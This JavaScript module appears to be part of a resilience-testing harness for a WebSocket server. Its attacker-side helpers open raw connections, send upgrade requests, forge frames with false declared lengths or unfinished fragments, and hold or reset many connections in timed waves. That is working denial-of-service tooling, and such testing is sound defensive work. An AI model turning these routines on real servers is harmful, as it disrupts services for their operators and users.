import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

/**
 * What an attacker needs of the network: bare connections from its address.
 * @param note counts what happened, by name
 */
export function createReach({ url, from, note }) {
  const { hostname, port, host } = new URL(url)

  /** A connection that reads nothing until it is told to. */
  const dial = () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from, noDelay: true })
    socket.once('connect', () => note('connected'))
    socket.on('error', (error) => note(error.code ?? error.message))
    return socket
  }
  /** Counts the status of the first answer; reads on and forgets it, but not what was asked for when `once`. */
  const readStatus = (socket, { once = false } = {}) => {
    socket.once('data', (data) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(data.subarray(0, 20).toString('latin1'))?.[1]
      note(`answer ${status ?? 'none'}`)
      if (once && Number(status) < 400) socket.pause()
      else socket.resume()
    })
    return socket
  }
  /** Asks for a session, over a bare connection. */
  const upgrade = (path, headers = '') => {
    const socket = dial()
    socket.write(
      `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n` +
        `Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n${headers}\r\n`,
    )
    return socket
  }
  return { host, dial, readStatus, upgrade }
}

/** A frame of a client with `payload`; `declared`: the length it says it has; `fin` false: more fragments would follow. */
export function frameOf(payload, { declared = payload.length, fin = true, opcode = 1 } = {}) {
  const head = Buffer.alloc(14) // the mask is zero: the payload is what it is
  head[0] = (fin ? 0x80 : 0) | opcode
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(declared), 2)
  return Buffer.concat([head, payload])
}

/** Ends a connection at once, as one whose machine has gone. */
const drop = (socket) => (socket.connecting ? socket.destroy() : socket.resetAndDestroy())

/** A crowd comes for so long, and stays away for as long, ms. */
const WAVE_MS = 10_000

/** No more are opened at once than this, however late they are. */
const MOST_AT_ONCE = 50

/**
 * Keeps up to `most` connections open until the process ends; a new one every `every` ms where one is missing, some at once
 * where this process came too late.
 * @param o.open gives a socket
 * @param o.lasts ms; then it is replaced, whatever became of it
 * @param o.waves all come and go together: what one address may have is not for the crowd alone, and the other attacks get in
 */
export async function keepOpen({ note }, { most, every, lasts = 60_000, waves = false, open }) {
  const sockets = new Set()
  const begin = () => {
    note('begun')
    const socket = open()
    sockets.add(socket)
    const renew = setTimeout(() => drop(socket), lasts)
    socket.once('close', () => {
      clearTimeout(renew)
      sockets.delete(socket)
    })
  }
  const began = performance.now()
  for (let last = began; ; await sleep(every)) {
    const now = performance.now()
    if (waves && Math.floor((now - began) / WAVE_MS) % 2 === 1) {
      for (const socket of sockets) drop(socket)
      last = now
      continue
    }
    for (let n = 0; last <= now && n < MOST_AT_ONCE && sockets.size < most; n++, last += every) begin()
    if (last <= now) last = now
  }
}

/** Does one thing after the other, `lines` at once, with a pause of `rest` ms after each, until the process ends. */
export async function inLines({ note }, { lines, rest, once }) {
  const line = async (i) => {
    for (; ; await sleep(rest)) {
      note('begun')
      await once(i)
    }
  }
  await Promise.all(Array.from({ length: lines }, (_, i) => line(i)))
}

/** Resolves when the socket has closed; drops it after `ms`. */
export const closedWithin = (socket, ms) =>
  new Promise((resolve) => {
    const late = setTimeout(() => drop(socket), ms)
    socket.once('close', () => {
      clearTimeout(late)
      resolve()
    })
  })
